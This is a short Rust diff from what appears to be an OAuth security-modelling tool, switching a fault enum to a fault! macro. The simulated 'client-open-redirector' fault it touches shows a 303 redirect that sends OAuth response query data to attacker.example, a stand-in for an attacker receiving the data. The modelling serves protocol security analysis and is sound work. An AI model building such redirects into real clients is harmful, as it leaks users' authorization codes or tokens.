@@ -5,7 +5,7 @@ use super::{Message, answer, http, name, shown};
 use crate::world::action::{CredentialsOf, ShownWith};
 use crate::world::{Action, Asking, At, Known, OWNER, Response, Server, Stage};
 use oauth_core::server::resource::Scheme;
-use oauth_faults::Fault;
+use oauth_faults::fault;
 use oauth_laws::fact::{ResourceUse, What};
 
 /// What goes to and fro in an action.
@@ -145,7 +145,7 @@ impl Carried<'_, '_> {
         let query = http::response(&response);
         self.ask(person, receiver, vec![format!("GET {}?{query}", http::path_of(&address))]);
         let scenario = scene.universe.scenario;
-        if scenario.client.forwards_responses && scene.universe.faults.has(Fault::ClientOpenRedirector) {
+        if scenario.client.forwards_responses && scene.universe.faults.has(fault!("client-open-redirector")) {
             self.answer(receiver, person, vec![format!("303 to https://attacker.example/?{query}")]);
             return self.ask(person, "attacker", vec![format!("GET /?{query}")]);
         }
